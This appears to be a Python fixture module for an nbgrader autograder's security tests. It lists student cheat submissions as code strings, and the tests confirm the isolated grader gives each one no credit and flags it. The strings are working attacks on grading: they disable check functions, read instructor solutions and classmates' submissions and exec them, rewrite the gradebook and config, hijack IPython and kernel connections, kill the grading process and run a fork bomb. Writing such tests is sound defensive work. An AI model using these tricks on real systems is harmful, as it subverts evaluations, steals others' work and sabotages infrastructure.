"""Cheats a determined student would try, as data (DESIGN.md, assignment contract points 8 and 9).

Each ``Cheat`` is a submission: code for some solution cells (the others keep the solution, or a placeholder of the
right shape and wrong values where the trick is meant to earn the points of every part), optionally cells the
student adds or test cells re-marked. test_assignments.py autogrades every cheat with the course's grading (student
code in the contained worker) and asserts that the ``parts`` it targets earn nothing and that the static check
flagged it (``flagged``: a pattern of the reasons in isolation_report.csv). With EM_BASELINE=1 the cheats marked
``baseline`` are graded again with every cell in the kernel (``--IsolatedExecute.isolate=False``, nbgrader's own
way), where they must earn points: that is what makes each of them a real attack and not a strawman.
"""
from __future__ import annotations

import dataclasses

from grading import solution_answers, submission

# Answers with the right types and shapes and wrong values: a cheat that "passes" with them passes by its trick.
PLACEHOLDERS = {
    "a01": {
        "expected_x2": "def expected_x2(counts, theta):\n    return 0.0 * counts[0]",
        "m_step": "def m_step(x2, counts):\n    return 0.5",
        "log_likelihood": "def log_likelihood(counts, theta):\n    return 0.0",
        "run_em": "def run_em(counts, theta0, tol=1e-10, max_iter=1000):\n"
                  "    return 0.5, np.zeros(max_iter + 1 if tol == -np.inf else 2)",
        "closed_form_mle": "def closed_form_mle(counts):\n    return 0.5",
    },
    "a03": {
        "forward": "def forward(obs, start, transition, emission):\n"
                   "    return np.full((len(obs), len(start)), 1 / len(start)), np.ones(len(obs))",
        "backward": "def backward(obs, transition, emission, scales):\n    return np.ones((len(obs), len(transition)))",
        "expected_counts": "def expected_counts(obs, start, transition, emission):\n    K = len(start)\n"
                           "    return np.full((len(obs), K), 1 / K), np.ones((K, K)), 0.0",
        "m_step": "def m_step(sequences, gammas, xi_sums, n_symbols):\n    K = len(gammas[0][0])\n"
                  "    return np.full(K, 1 / K), np.full((K, K), 1 / K), np.full((K, n_symbols), 1 / n_symbols)",
        "baum_welch": "def baum_welch(sequences, start, transition, emission, tol=1e-6, max_iter=500):\n"
                      "    return start, transition, emission, np.zeros(max_iter + 1 if tol == -np.inf else 2)",
    },
    "a04": {
        "map_weights": "def map_weights(resp, alpha):\n    return np.full(resp.shape[1], 1 / resp.shape[1])",
        "map_means": "def map_means(X, resp, m0, kappa0):\n    return np.zeros((resp.shape[1], X.shape[1]))",
        "map_covariances": "def map_covariances(X, resp, means, m0, kappa0, nu0, S0):\n"
                           "    return np.array([np.eye(X.shape[1])] * resp.shape[1])",
        "fit_map_gmm": "def fit_map_gmm(X, weights, means, covariances, prior, tol=1e-6, max_iter=500):\n"
                       "    return weights, means, covariances, np.zeros(max_iter + 1 if tol == -np.inf else 2)",
    },
    "a05": {
        "swap_block": "def swap_block(total, old, new):\n    return tuple(np.zeros_like(t) for t in total)",
        "incremental_em": "def incremental_em(blocks, weights, means, covariances, tol=1e-8, max_passes=200):\n"
                          "    return weights, means, covariances, np.zeros(max_passes + 1 if tol == -np.inf else 2)",
        "step_size": "def step_size(n, alpha=0.6, n0=0.0):\n    return 0.5",
        "online_em": "def online_em(batches, weights, means, covariances, alpha=0.6, n0=0.0):\n"
                     "    return weights, means, covariances",
    },
    "a06": {
        "expected_log_weights": "def expected_log_weights(alpha):\n    return np.zeros(len(alpha))",
        "expected_log_det": "def expected_log_det(W, nu):\n    return np.zeros(len(nu))",
        "responsibilities": "def responsibilities(X, E_log_pi, E_log_det, beta, m, W, nu):\n"
                            "    return np.full((len(X), len(beta)), 1 / len(beta))",
        "update_alpha": "def update_alpha(resp, prior):\n    return np.ones(resp.shape[1])",
        "update_gaussian_wishart": "def update_gaussian_wishart(X, resp, prior):\n"
                                   "    K, D = resp.shape[1], X.shape[1]\n"
                                   "    return np.ones(K), np.zeros((K, D)), np.array([np.eye(D)] * K), np.full(K, D + 1.0)",
        "fit_vb": "def fit_vb(X, resp, prior, tol=1e-6, max_iter=500):\n    K, D = resp.shape[1], X.shape[1]\n"
                  "    return (np.ones(K), np.ones(K), np.zeros((K, D)), np.array([np.eye(D)] * K), np.full(K, D + 1.0),\n"
                  "            np.zeros(max_iter + 1 if tol == -np.inf else 2))",
    },
}

# The tricks shared by several cheats.
CHECKS_OFF = ('import emlib.checks as c; [setattr(c, n, lambda *a, **k: None) for n in dir(c) '
              'if n.startswith("assert")]\n\n')
NULL_GUARD = "import contextlib\nfrom emlib import checks\nchecks.library_forbidden = lambda *modules: contextlib.nullcontext()\n\n"
COURSE_FILE = ("import pathlib\n\n\ndef _course_file(*parts):\n"
               "    # the course folder is an ancestor of the kernel's working folder (autograded/STUDENT/ASSIGNMENT)\n"
               "    here = pathlib.Path.cwd()\n"
               "    return next(p for p in [here, *here.parents] if (p / 'nbgrader_config.py').exists()).joinpath(*parts)\n\n\n")
LENIENT = ("class _Lenient:\n    # stands in for emlib.checks: every assertion passes, library_forbidden forbids nothing\n"
           "    def __getattr__(self, name):\n"
           "        return (lambda *a, **k: __import__('contextlib').nullcontext()) if name == 'library_forbidden' "
           "else (lambda *a, **k: None)\n\n\n")
MARKER = "cheated.txt"   # a file the cheats that write into the course folder try to leave behind


@dataclasses.dataclass(frozen=True)
class Cheat:
    name: str
    assignment: str
    answers: dict[str, str]                  # grade_id -> code (cells not named keep the solution)
    parts: tuple[str, ...]                   # the tests that must earn nothing
    flagged: str | None                      # a pattern of the static check's reasons for this submission
    baseline: bool = True                    # earns points with every cell in the kernel (nbgrader's own way)
    placeholders: bool = False               # the cells not in ``answers`` get wrong placeholders, not the solution
    added: tuple[str, ...] = ()              # code of cells the student adds after the set-up cell
    added_metadata: dict | None = None       # metadata given to those cells (a forged course cell)
    retagged: dict[str, str] = dataclasses.field(default_factory=dict)  # test cell -> new source, marked a solution
    refused_by_nbgrader: bool = False        # nbgrader itself rejects the notebook (its metadata no longer validates)

    def notebook(self):
        base = dict(PLACEHOLDERS[self.assignment]) if self.placeholders else solution_answers(self.assignment)
        notebook = submission(self.assignment, {**base, **self.answers})
        for grade_id, source in self.retagged.items():
            cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
            cell.source = source
            cell.metadata.nbgrader["solution"] = True
        if self.added:
            import nbformat
            setup = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
            for offset, code in enumerate(self.added, 1):
                cell = nbformat.v4.new_code_cell(code)
                if self.added_metadata:
                    cell.metadata.update(self.added_metadata)
                notebook.cells.insert(setup + offset, cell)
        return notebook


def _with_placeholders(assignment: str, first: str, trick: str) -> dict[str, str]:
    return {first: trick + PLACEHOLDERS[assignment][first]}


CHEATS = [
    # --- a01 -------------------------------------------------------------------------------------------------------
    Cheat("the checks made no-ops (one line), placeholder answers", "a01",
          _with_placeholders("a01", "expected_x2", CHECKS_OFF), placeholders=True,
          parts=("test_expected_x2", "test_m_step", "test_log_likelihood", "test_run_em", "test_closed_form_mle"),
          flagged=r"calls setattr|uses the special"),
    Cheat("numpy's comparisons patched, placeholder answers", "a01",
          _with_placeholders("a01", "expected_x2",
                             "import numpy\n_abs = numpy.abs\nnumpy.abs = lambda x, *a, **k: _abs(x) * 0.0\n"
                             "numpy.allclose = lambda *a, **k: True\n\n"),
          placeholders=True, parts=("test_expected_x2", "test_m_step", "test_log_likelihood", "test_closed_form_mle"),
          flagged=r"changes the module numpy"),
    Cheat("the library called in a subprocess", "a01", {"closed_form_mle": (
        "import subprocess\nimport sys\n\n\ndef closed_form_mle(counts):\n"
        "    code = f'from emlib import linkage; print(linkage.mle({[int(c) for c in counts]}))'\n"
        "    return float(subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stdout)")},
          parts=("test_closed_form_mle",), flagged=r"imports subprocess"),
    Cheat("the instructor's solution read from the course folder and run", "a01", {"run_em": (
        "import json\n" + COURSE_FILE +
        "_cells = json.load(open(_course_file('solutions', 'a01', 'a01.ipynb')))['cells']\n"
        "exec(''.join(''.join(c['source']) for c in _cells if c['metadata'].get('nbgrader', {}).get('grade_id') == 'run_em'))")},
          parts=("test_run_em",), flagged=r"calls exec|calls open"),
    Cheat("the course's configuration rewritten, to take effect at the next grading", "a01", {"log_likelihood": (
        COURSE_FILE + "try:\n    with open(_course_file('nbgrader_config.py'), 'a') as f:\n"
        "        f.write('\\n# a cheat was here\\n')\n    open(_course_file('" + MARKER + "'), 'w').close()\n"
        "except Exception:\n    pass\n\n\ndef log_likelihood(counts, theta):\n    return 0.0")},
          parts=("test_log_likelihood",), flagged=r"calls open", baseline=False),
    # --- a02 -------------------------------------------------------------------------------------------------------
    Cheat("library_forbidden replaced, then the library called", "a02", {
        "e_step": NULL_GUARD + "from emlib import gmm\n\n\ndef e_step(X, weights, means, covariances):\n"
                  "    params = gmm.GMMParams(weights, means, covariances)\n"
                  "    return gmm.responsibilities(X, params), gmm.log_likelihood(X, params)",
        "fit_gmm": "def fit_gmm(X, weights, means, covariances, tol=1e-6, max_iter=500):\n"
                   "    r = gmm.fit(X, gmm.GMMParams(weights, means, covariances), tol=tol, max_iter=max_iter)\n"
                   "    ll = list(r.objective)\n"
                   "    return (*r.params, np.array(ll))"},
          parts=("test_e_step", "test_fit_gmm"), flagged=r"changes the module checks|imports emlib.gmm"),
    Cheat("the library's saved code restored from inside library_forbidden", "a02", {"update_weights": (
        "import gc\nfrom emlib import gmm\n\n\ndef update_weights(resp):\n"
        "    for guard in [o for o in gc.get_objects() if type(o).__name__ == 'library_forbidden']:\n"
        "        for function, code in getattr(guard, 'saved', []):\n"
        "            function.__code__ = code\n"
        "    return gmm._map_weights(resp.sum(axis=0), np.ones(resp.shape[1]))")},
          parts=("test_update_weights",), flagged=r"imports gc|__code__"),
    Cheat("a second copy of the library, imported afresh", "a02", {"update_means": (
        "import importlib\nimport sys\n\n\ndef update_means(X, resp):\n"
        "    for name in [n for n in sys.modules if n == 'emlib' or n.startswith('emlib.')]:\n"
        "        del sys.modules[name]\n"
        "    fresh = importlib.import_module('emlib.gmm')\n"
        "    stats = fresh.gaussian_statistics(fresh.gaussian.features(X), resp)\n"
        "    return fresh.m_step(stats).means")},
          parts=("test_update_means",), flagged=r"imports importlib|sys\.modules"),
    Cheat("another student's answer read from the submissions and run", "a02", {"update_covariances": (
        "import glob\nimport json\n" + COURSE_FILE +
        "for _path in glob.glob(str(_course_file('submitted', '*', 'a02', 'a02.ipynb'))):\n"
        "    for _cell in json.load(open(_path))['cells']:\n"
        "        if _cell['metadata'].get('nbgrader', {}).get('grade_id') == 'update_covariances' "
        "and 'raise' not in ''.join(_cell['source']):\n"
        "            exec(''.join(_cell['source']))")},
          parts=("test_update_covariances",), flagged=r"calls exec|imports glob"),
    Cheat("the reference implementation patched to agree with a wrong answer", "a02", {"e_step": (
        "from emlib import gmm\n"
        "gmm.responsibilities = lambda X, params: np.full((len(X), len(params.weights)), 1 / len(params.weights))\n"
        "gmm.log_likelihood = lambda X, params: 0.0\n\n\n"
        "def e_step(X, weights, means, covariances):\n"
        "    return np.full((len(X), len(weights)), 1 / len(weights)), 0.0")},
          parts=("test_e_step",), flagged=r"changes the module gmm"),
    # --- a03 -------------------------------------------------------------------------------------------------------
    Cheat("the test's namespace reached through the caller's frame", "a03", {"forward": (
        "import sys\n\n\n" + LENIENT +
        "def forward(obs, start, transition, emission):\n    sys._getframe(1).f_globals['checks'] = _Lenient()\n"
        "    return np.full((len(obs), len(start)), 1 / len(start)), np.ones(len(obs))")},
          placeholders=True, parts=("test_forward", "test_backward", "test_expected_counts", "test_m_step",
                                    "test_baum_welch"), flagged=r"sys\._getframe"),
    Cheat("an IPython input transformer that empties the test cells", "a03", _with_placeholders("a03", "forward", (
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: [] if any('checks.' in line for line in lines) else lines)\n\n")),
          placeholders=True, parts=("test_forward", "test_backward", "test_expected_counts", "test_m_step",
                                    "test_baum_welch"), flagged=r"reaches IPython"),
    Cheat("an AST transformer that wraps every test in try/except", "a03", _with_placeholders("a03", "forward", (
        "import ast\n\n\nclass _Forgive(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])\n"
        "        return ast.fix_missing_locations(ast.Module(body=[ast.Try(body=node.body or [ast.Pass()], "
        "handlers=[handler], orelse=[], finalbody=[])], type_ignores=[]))\n\n\n"
        "get_ipython().ast_transformers.append(_Forgive())\n\n")),
          placeholders=True, parts=("test_forward", "test_backward", "test_expected_counts", "test_m_step",
                                    "test_baum_welch"), flagged=r"reaches IPython|imports ast"),
    Cheat("set_custom_exc and a post_run_cell hook that turn errors into success", "a03", _with_placeholders(
        "a03", "forward", (
            "_shell = get_ipython()\n_shell.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)\n"
            "def _succeed(result):\n    result.error_in_exec = None\n\n"
            "_shell.events.register('post_run_cell', _succeed)\n\n")),
          placeholders=True, parts=("test_forward", "test_backward", "test_expected_counts", "test_m_step",
                                    "test_baum_welch"), flagged=r"reaches IPython"),
    Cheat("copies of the library's functions made before the tests forbid them", "a03", {"m_step": (
        "import types\nfrom emlib import hmm\n\n_module = dict(vars(hmm))\n"
        "_module.update({name: types.FunctionType(f.__code__, _module, f.__name__, f.__defaults__, f.__closure__)\n"
        "                for name, f in vars(hmm).items() if isinstance(f, types.FunctionType) and "
        "f.__module__ == hmm.__name__})\n\n\n"
        "def m_step(sequences, gammas, xi_sums, n_symbols):\n"
        "    counts = np.sum([[g[obs == m].sum(axis=0) for m in range(n_symbols)] for obs, g in zip(sequences, gammas)],"
        " axis=0).T\n"
        "    stats = hmm.HMMStats(np.sum([g[0] for g in gammas], axis=0), np.sum(xi_sums, axis=0), "
        "hmm.SymbolStats(counts), len(gammas))\n"
        "    p = _module['m_step'](stats)\n"
        "    return p.start, p.transition, p.emission.probs")},
          parts=("test_m_step",), flagged=r"__code__|imports emlib.hmm"),
    # --- a04 -------------------------------------------------------------------------------------------------------
    Cheat("full marks written into the gradebook during grading", "a04", _with_placeholders("a04", "map_weights", (
        "import sqlite3\n" + COURSE_FILE +
        "try:\n    _db = sqlite3.connect(str(_course_file('gradebook.db')))\n"
        "    _db.execute('UPDATE grade SET manual_score = (SELECT max_score FROM grade_cell WHERE grade_cell.id = '\n"
        "                'grade.cell_id)')\n    _db.commit()\n    open(_course_file('" + MARKER + "'), 'w').close()\n"
        "except Exception:\n    pass\n\n")),
          placeholders=True, parts=("test_map_weights", "test_map_means", "test_map_covariances", "test_fit_map_gmm"),
          flagged=r"imports sqlite3", baseline=False),
    Cheat("a cell the student adds, forged as a locked course cell, that disables the checks", "a04", {},
          placeholders=True, added=(CHECKS_OFF,),
          added_metadata={"nbgrader": {"grade": False, "grade_id": "setup_more", "locked": True, "schema_version": 3,
                                       "solution": False, "task": False}, "editable": False, "deletable": False},
          parts=("test_map_weights", "test_map_means", "test_map_covariances", "test_fit_map_gmm"),
          flagged=None, baseline=False, refused_by_nbgrader=True),
    Cheat("a test cell re-marked as a solution cell and emptied", "a04", {}, retagged={"test_map_weights": "pass"},
          placeholders=True, parts=("test_map_weights",), flagged=None, baseline=False, refused_by_nbgrader=True),
    Cheat("a detached process that outlives grading to rewrite the gradebook", "a04", {"map_covariances": (
        "import subprocess\nimport sys\n" + COURSE_FILE +
        "try:\n    subprocess.Popen([sys.executable, '-c', 'import time, pathlib; time.sleep(2); '\n"
        "                      f'pathlib.Path({str(_course_file(\"" + MARKER + "\"))!r}).touch()'], start_new_session=True)\n"
        "except Exception:\n    pass\n\n\n" + PLACEHOLDERS["a04"]["map_covariances"])},
          parts=("test_map_covariances",), flagged=r"imports subprocess", baseline=False),
    # --- a05 -------------------------------------------------------------------------------------------------------
    Cheat("the tests' namespace given fake checks", "a05", _with_placeholders("a05", "swap_block", (
        LENIENT + "get_ipython().user_ns['checks'] = _Lenient()\n\n")),
          placeholders=True, parts=("test_swap_block", "test_incremental_em", "test_step_size", "test_online_em"),
          flagged=r"reaches IPython|__import__"),
    Cheat("a background thread that keeps the checks disabled", "a05", _with_placeholders("a05", "swap_block", (
        "import threading\nimport time\nimport emlib.checks as _c\n\n\ndef _keep_off():\n    while True:\n"
        "        for name in [n for n in dir(_c) if n.startswith('assert')]:\n"
        "            setattr(_c, name, lambda *a, **k: None)\n        time.sleep(0.01)\n\n\n"
        "try:\n    threading.Thread(target=_keep_off, daemon=True).start()\nexcept RuntimeError:\n    pass\n\n")),
          placeholders=True, parts=("test_swap_block", "test_step_size", "test_online_em"),
          flagged=r"imports threading"),
    Cheat("the checks' functions replaced through sys.modules and the module's __dict__", "a05",
          _with_placeholders("a05", "swap_block", (
              "import sys\n_checks = sys.modules['emlib.checks'].__dict__\n"
              "_checks.update({name: (lambda *a, **k: None) for name in list(_checks) if name.startswith('assert')})\n\n")),
          placeholders=True, parts=("test_swap_block", "test_step_size", "test_online_em"),
          flagged=r"sys\.modules|__dict__"),
    # --- a06 -------------------------------------------------------------------------------------------------------
    Cheat("a lazy value that calls the library when the test converts it", "a06", {"expected_log_weights": (
        "from emlib import vb\n\n\nclass _Later:\n    def __init__(self, alpha):\n        self.alpha = alpha\n\n"
        "    def __array__(self, dtype=None, copy=None):\n        K = len(self.alpha)\n"
        "        params = vb.VBParams(self.alpha, np.ones(K), np.zeros((K, 1)), np.ones(K), np.ones((K, 1, 1)))\n"
        "        return np.asarray(params.expected_log_weights, dtype=dtype)\n\n    def __len__(self):\n"
        "        return len(self.alpha)\n\n\ndef expected_log_weights(alpha):\n    return _Later(alpha)")},
          parts=("test_expected_log_weights",), flagged=r"defines __array__|imports emlib.vb"),
    Cheat("builtins.__import__ replaced so the tests import a fake library", "a06", _with_placeholders(
        "a06", "expected_log_weights", (
            "import builtins\nimport types\n\n\nclass _Anything:\n    def __getattr__(self, name):\n        return self\n\n"
            "    def __call__(self, *args, **kwargs):\n        return self\n\n\n"
            "def _fake(name):\n    module = types.ModuleType(name)\n    module.__getattr__ = lambda attr: _Anything()\n"
            "    return module\n\n\n_real_import = builtins.__import__\n\n\n"
            "def _import(name, globals=None, locals=None, fromlist=(), level=0):\n"
            "    if name == 'emlib' and fromlist and 'checks' not in fromlist:\n"
            "        package = types.ModuleType('emlib')\n"
            "        for attr in fromlist:\n            setattr(package, attr, _fake('emlib.' + attr))\n"
            "        return package\n"
            "    return _real_import(name, globals, locals, fromlist, level)\n\n\nbuiltins.__import__ = _import\n"
            "import emlib.checks as _c\nfor _n in [n for n in dir(_c) if n.startswith('assert')]:\n"
            "    setattr(_c, _n, lambda *a, **k: None)\n\n")),
          placeholders=True, parts=("test_expected_log_weights", "test_expected_log_det", "test_responsibilities",
                                    "test_update_alpha", "test_update_gaussian_wishart", "test_fit_vb"),
          flagged=r"imports builtins|__import__"),
    Cheat("ctypes used to run code in the interpreter that grades", "a06", _with_placeholders(
        "a06", "expected_log_weights", (
            "import ctypes\n\ntry:\n    ctypes.pythonapi.PyRun_SimpleString(b'import emlib.checks as c; '\n"
            "        b'[setattr(c, n, lambda *a, **k: None) for n in dir(c) if n.startswith(\"assert\")]')\n"
            "except Exception:\n    pass\n\n")),
          placeholders=True, parts=("test_expected_log_weights", "test_expected_log_det", "test_responsibilities",
                                    "test_update_alpha", "test_update_gaussian_wishart", "test_fit_vb"),
          flagged=r"imports ctypes"),
    Cheat("the grading kernel reached through its connection file", "a06", _with_placeholders(
        "a06", "expected_log_weights", (
            "import glob\nimport os\n\ntry:\n    from jupyter_client import BlockingKernelClient\n"
            "    from jupyter_core.paths import jupyter_runtime_dir\n"
            "    for _file in sorted(glob.glob(os.path.join(jupyter_runtime_dir(), 'kernel-*.json')), "
            "key=os.path.getmtime)[-3:]:\n"
            "        _client = BlockingKernelClient(connection_file=_file)\n        _client.load_connection_file()\n"
            "        _client.start_channels()\n"
            "        _client.execute('import emlib.checks as c; [setattr(c, n, lambda *a, **k: None) for n in dir(c) '\n"
            "                        'if n.startswith(\"assert\")]')\n"
            "except Exception:\n    pass\n\n")),
          placeholders=True, parts=("test_expected_log_weights", "test_expected_log_det", "test_responsibilities",
                                    "test_update_alpha", "test_update_gaussian_wishart", "test_fit_vb"),
          flagged=r"imports jupyter_client|imports os", baseline=False),
]

# Sabotage rather than points: the grader must not be touched, and the rest of the submission is graded as usual.
SABOTAGE = [
    Cheat("the grading kernel sent SIGTERM", "a01", {"m_step": (
        "import os\nimport signal\n\ntry:\n    os.kill(os.getppid(), signal.SIGTERM)\nexcept OSError:\n    pass\n\n\n"
        "def m_step(x2, counts):\n    y1, y2, y3, y4 = counts\n    return (x2 + y4) / (x2 + y2 + y3 + y4)")},
          parts=(), flagged=r"imports os", baseline=False),
    Cheat("a fork bomb", "a02", {"update_weights": (
        "import os\n\ntry:\n    while True:\n        os.fork()\nexcept OSError:\n    pass\n\n\n"
        "def update_weights(resp):\n    return resp.sum(axis=0) / len(resp)")},
          parts=(), flagged=r"imports os", baseline=False),
]


def cheats_of(assignment: str) -> list[Cheat]:
    return [c for c in CHEATS + SABOTAGE if c.assignment == assignment]
